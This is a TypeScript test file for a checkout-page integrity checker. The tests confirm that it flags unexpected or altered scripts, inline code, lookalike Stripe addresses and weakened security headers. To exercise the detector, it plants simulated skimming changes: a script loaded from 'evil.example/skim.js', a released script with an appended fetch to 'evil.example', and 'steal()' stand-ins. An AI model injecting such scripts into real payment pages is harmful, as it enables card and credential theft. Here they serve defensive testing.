/** `paylink page check`: what it finds, judged by rule, and in a browser against a page into which changes are planted. */
import { createHash } from "node:crypto";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { contentSecurityPolicy } from "../../server/checkout/page.ts";
import { differences, type Seen } from "../../server/cli/pageCheck/compare.ts";
import { openBrowser } from "../../server/cli/pageCheck/devtools.ts";
import { INVENTORY } from "../../server/cli/pageCheck/inventory.ts";
import { observe } from "../../server/cli/pageCheck/observe.ts";
import { chromiumSources } from "../setup/chromium.ts";

const CODE = "document.title = 'paid'";
const sha256 = (code: string): string => createHash("sha256").update(code).digest("hex");
const released = (path: string): string | null => (path === "/assets/main-1.js" ? sha256(CODE) : null);

const seen = (change: Partial<Seen> = {}): Seen => ({
  url: "https://pay.example.com/code",
  status: 200,
  headers: {
    "content-security-policy": contentSecurityPolicy("#123456", change.hosted ?? false),
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "cache-control": "no-store",
    "strict-transport-security": "max-age=63072000; includeSubDomains",
  },
  scripts: [{ url: "https://pay.example.com/assets/main-1.js", sha256: sha256(CODE), inline: false }],
  hosted: false,
  ...change,
});
const told = (change: Partial<Seen>): string => differences(seen(change), INVENTORY, released).join("\n");
const script = (url: string, code: string | null = CODE, inline = false) => ({
  scripts: [{ url, sha256: code === null ? null : sha256(code), inline }],
});
const STRIPE = "https://js.stripe.com/endive/stripe.js";

describe("the inventory", () => {
  it("is the one in the documentation", async () => {
    const text = `${JSON.stringify(INVENTORY, null, 2)}\n`;
    await expect(text).toMatchFileSnapshot("../../docs/script-inventory.json");
  });

  it("has nothing against the pages as they are, with the processor's fields and without", () => {
    expect(told({})).toBe("");
    expect(told({ hosted: true, ...script(STRIPE, null) })).toBe("");
  });

  it.each([
    ["a script of another origin", script("https://evil.example/skim.js"), "not in the inventory"],
    [
      "a script that was changed",
      script("https://pay.example.com/assets/main-1.js", "steal()"),
      "is not what",
    ],
    ["a script that is not released", script("https://pay.example.com/assets/x.js"), "is no file"],
    ["a script in the page", script("https://pay.example.com/code", "steal()", true), "stands in the page"],
    ["a script made of text", script("", "steal()"), "made of text"],
    ["Stripe's script where nothing is paid by it", script(STRIPE), "own fields only"],
    [
      "an address that only looks like Stripe's",
      { hosted: true, ...script("https://js.stripe.com.evil.example/x.js") },
      "not in",
    ],
    ["a page that is not there", { status: 404 }, "answered 404"],
  ] as const)("tells %s", (_what, change, words) => {
    expect(told(change as Partial<Seen>)).toContain(words);
  });

  it.each([
    ["x-content-type-options", undefined],
    ["referrer-policy", "unsafe-url"],
    ["strict-transport-security", "max-age=0"],
    ["content-security-policy", undefined],
  ])("tells a header that differs: %s", (name, value) => {
    const { [name]: _, ...rest } = seen().headers;
    expect(told({ headers: value === undefined ? rest : { ...rest, [name]: value } })).toMatch(
      new RegExp(name, "i"),
    );
  });

  it.each([
    ["script-src 'self'", "script-src 'self' 'unsafe-inline'"],
    ["script-src 'self'", "script-src 'self' https://js.stripe.com"],
    ["connect-src 'self'", "connect-src *"],
    ["; base-uri 'none'", ""],
    ["frame-ancestors 'none'", "frame-ancestors 'none'; frame-src *"],
  ])("tells a policy that differs: %s", (from, to) => {
    const { headers } = seen();
    const policy = (headers["content-security-policy"] ?? "").replace(from, to);
    expect(told({ headers: { ...headers, "content-security-policy": policy } })).toContain(
      "Content-Security-Policy",
    );
  });
});

/** The first Chromium that has a path of its own. */
function installed(): string | undefined {
  for (const source of chromiumSources()) {
    const path = source.obtain().find(({ executablePath }) => executablePath !== undefined)?.executablePath;
    if (path !== undefined) return path;
  }
  return undefined;
}

describe("a page in a browser", () => {
  let server: Server;
  let url: string;
  let page = "";
  let code = CODE;
  beforeAll(async () => {
    server = createServer((request, response) => {
      const { headers } = seen();
      if (request.url === "/assets/main-1.js")
        return void response.writeHead(200, { "content-type": "text/javascript" }).end(code);
      if (request.url !== "/code") return void response.writeHead(404).end();
      response.writeHead(200, { ...headers, "content-type": "text/html" }).end(page);
    });
    await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/code`;
  });
  afterAll(() => new Promise((done) => server.close(done)));

  async function found(): Promise<string> {
    const session = await openBrowser(installed());
    try {
      return differences(await observe(session, url), INVENTORY, released).join("\n");
    } finally {
      await session.close();
    }
  }

  it("is as the inventory says, until something is planted in it", async () => {
    const ours = `<script type="module" src="/assets/main-1.js"></script>`;
    page = `<!doctype html><div id="pay"></div>${ours}`;
    expect(await found()).toBe("");
    code = `${CODE};fetch("//evil.example")`;
    page += `<script src="https://evil.example/skim.js"></script>`;
    const planted = await found();
    expect(planted).toContain("main-1.js is not what this installation's release holds");
    expect(planted).toContain("https://evil.example/skim.js is not in the inventory");
  });
});
